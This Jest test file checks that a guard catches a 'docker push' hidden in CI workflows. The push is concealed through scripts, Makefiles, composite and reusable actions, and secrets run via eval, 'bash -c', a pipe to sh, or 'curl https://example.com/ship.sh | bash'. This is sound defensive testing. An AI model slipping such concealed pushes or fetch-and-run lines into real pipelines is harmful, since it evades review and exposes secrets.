// Bypass 15: the push is hidden in what the workflow calls.
import { test } from '@jest/globals';
import { expectHeld, stage, WORKFLOW } from './attack.ts';

const { opened, repository } = stage();

const calling = (step: string): string =>
  `on: push\njobs:\n  ship:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v5\n      - ${step}\n`;

test.each<[string, Record<string, string>]>([
  ['a script', { [WORKFLOW]: calling('run: ./ship.sh'), 'ship.sh': 'docker push ghcr.io/acme/hidden\n' }],
  [
    'a Makefile',
    { [WORKFLOW]: calling('run: make ship'), Makefile: 'ship:\n\tdocker push ghcr.io/acme/hidden\n' },
  ],
  [
    'a composite action',
    {
      [WORKFLOW]: calling('uses: ./.github/actions/ship'),
      '.github/actions/ship/action.yml':
        'name: s\ndescription: s\nruns:\n  using: composite\n  steps:\n    - run: docker push ghcr.io/acme/hidden\n      shell: bash\n',
    },
  ],
  [
    'a reusable workflow',
    {
      [WORKFLOW]: 'on: push\njobs:\n  ship:\n    uses: ./.github/workflows/reused.yml\n',
      '.github/workflows/reused.yml':
        'on: workflow_call\njobs:\n  s:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker push ghcr.io/acme/hidden\n',
    },
  ],
  ['a variable', { [WORKFLOW]: calling('run: docker push $' + '{{ secrets.REGISTRY }}/acme/hidden') }],
  [
    'a variable that is evaluated',
    { [WORKFLOW]: calling('env: {TOKEN: "$' + '{{ secrets.TOKEN }}"}\n        run: eval "$SHIP"') },
  ],
  [
    'a variable given to a shell',
    { [WORKFLOW]: calling('env: {SHIP: "$' + '{{ secrets.SHIP }}"}\n        run: bash -c "$SHIP"') },
  ],
  [
    'a variable piped into a shell',
    { [WORKFLOW]: calling('env: {SHIP: "$' + '{{ secrets.SHIP }}"}\n        run: echo "$SHIP" | sh') },
  ],
  [
    'a script from elsewhere',
    {
      [WORKFLOW]: calling(
        'env: {TOKEN: "$' +
          '{{ secrets.TOKEN }}"}\n        run: curl -fsSL https://example.com/ship.sh | bash',
      ),
    },
  ],
  ['a command from a secret', { [WORKFLOW]: calling('run: $' + '{{ secrets.COMMAND }}') }],
])('in %s: it is followed, or asked about', async (_, files) => {
  expectHeld(await opened(repository(), { files }));
});
